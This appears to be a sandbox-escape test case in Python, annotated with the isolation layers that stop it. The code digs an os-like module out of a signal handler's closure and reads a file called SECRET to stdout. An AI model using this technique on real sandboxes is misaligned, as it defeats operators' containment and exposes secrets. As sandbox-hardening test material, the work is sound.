# Takes the handler of the deadline apart.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
# with: graph
signal = importer.load_module('_signal')
handler = signal.getsignal(14)
parts = [cell.cell_contents for cell in (getattr(handler, '__closure__', None) or ())]
system = [part.__self__ for part in parts if type(part).__name__ == 'builtin_function_or_method' and hasattr(part.__self__, 'open')] or [posix]
system[0].write(1, system[0].read(system[0].open(SECRET, 0), 100))
